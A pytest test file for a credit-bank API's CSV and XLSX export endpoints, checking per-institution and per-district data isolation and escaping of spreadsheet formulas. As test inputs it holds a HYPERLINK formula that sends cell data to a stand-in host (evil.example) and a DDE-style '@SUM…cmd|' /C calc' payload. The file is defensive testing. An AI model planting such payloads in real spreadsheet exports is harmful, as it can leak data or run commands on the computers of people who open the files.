"""Exports through the API: each institution takes away only its own outcomes and conversions, the
review log follows the reviewer's district, and no cell of a CSV or XLSX file runs as a formula."""

import csv
import io
from typing import Any

from fastapi.testclient import TestClient
from openpyxl import load_workbook

from creditbank.auth.models import Role
from tests.conftest import Tokens
from tests.outcomes.factories import Desk, training, work_experience
from tests.support.factories import create_institution, create_learner

PROBLEM = "application/problem+json"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def _csv(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff"), "a BOM, for Excel"
    return list(csv.reader(io.StringIO(text[1:])))


class TestInstitutionExports:
    def test_an_institution_exports_its_own_outcomes_only(self, client: TestClient, auth: Tokens) -> None:
        mine, theirs = Desk(client, auth), Desk(client, auth, name="李四")
        own = mine.posted(training("OWN-1", title=FORMULA))
        other = theirs.posted(training("THEIRS-1", title="别校的成果"))
        rows = _csv(client.get("/api/v1/exports/outcomes", headers=mine.headers))
        header, body = rows[0], rows[1:]
        assert header[:3] == ["outcome_id", "reference", "learner_id"]
        ids = {row[0] for row in body}
        assert own["id"] in ids and other["id"] not in ids
        [row] = [r for r in body if r[0] == own["id"]]
        assert row[header.index("title")] == "'" + FORMULA, "a formula is written as text"
        assert row[header.index("status")] == "recognised"

    def test_xlsx_cells_are_text_never_formulas(self, client: TestClient, auth: Tokens) -> None:
        desk = Desk(client, auth)
        desk.posted(training("X-1", title="@SUM(1+1)*cmd|' /C calc'!A0"))
        desk.posted(training("X-2", title="-2+3"))
        response = client.get("/api/v1/exports/outcomes", params={"format": "xlsx"}, headers=desk.headers)
        assert response.status_code == 200, response.text
        assert "attachment" in response.headers["content-disposition"]
        sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
        header = [c.value for c in sheet[1]]
        titles = {
            row[header.index("title")].value: row[header.index("title")] for row in sheet.iter_rows(min_row=2)
        }
        assert set(titles) == {"'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3"}
        assert all(cell.data_type == "s" for cell in titles.values())

    def test_conversions_export_is_the_institutions_own(self, client: TestClient, auth: Tokens) -> None:
        desk = Desk(client, auth)
        rows = _csv(client.get("/api/v1/exports/conversions", headers=desk.headers))
        assert rows[0][0] == "conversion_id" and rows[1:] == []

    def test_others_may_not_export_an_institutions_data(self, client: TestClient, auth: Tokens) -> None:
        admin = auth(Role.admin)
        learner = auth(Role.learner, create_learner(client, admin))
        for headers in (admin, learner, auth(Role.reviewer), auth(Role.auditor)):
            for path in ("/api/v1/exports/outcomes", "/api/v1/exports/conversions"):
                refused = client.get(path, headers=headers)
                assert refused.status_code == 403 and refused.headers["content-type"] == PROBLEM
        assert client.get("/api/v1/exports/outcomes").status_code == 401


class TestReviewLog:
    def test_a_district_reviewer_exports_its_districts_decisions_only(
        self, client: TestClient, auth: Tokens
    ) -> None:
        admin = auth(Role.admin)
        haidian = Desk(client, auth)  # 海淀区
        chaoyang_id = create_institution(client, admin, district="朝阳区")
        chaoyang = auth(Role.institution, chaoyang_id)
        chaoyang_learner = create_learner(client, chaoyang)
        in_haidian = haidian.posted(work_experience("H-1"))["id"]
        posted = client.post(
            "/api/v1/outcomes",
            json={"learner_id": chaoyang_learner, **work_experience("C-1")},
            headers={**chaoyang, "Idempotency-Key": "review-log-c1"},
        )
        in_chaoyang = posted.json()["id"]

        def reviewer(district: str) -> dict[str, str]:
            made = client.post(
                "/api/v1/reviewers", json={"name": "审核", "district": district}, headers=admin
            )
            return auth(Role.reviewer, made.json()["id"])

        hd, cy = reviewer("海淀区"), reviewer("朝阳区")
        assert haidian.decide(in_haidian, hd, stage="district").status_code == 200
        assert haidian.decide(in_chaoyang, cy, stage="district", reason="=1+1").status_code == 200
        mine = _csv(client.get("/api/v1/exports/review-log", headers=cy))
        header = mine[0]
        assert {r[header.index("outcome_id")] for r in mine[1:]} == {in_chaoyang}
        assert all(r[header.index("district")] == "朝阳区" for r in mine[1:])
        every = _csv(client.get("/api/v1/exports/review-log", headers=admin))
        assert {in_haidian, in_chaoyang} <= {r[every[0].index("outcome_id")] for r in every[1:]}
        refused = client.get("/api/v1/exports/review-log", headers=chaoyang)
        assert refused.status_code == 403
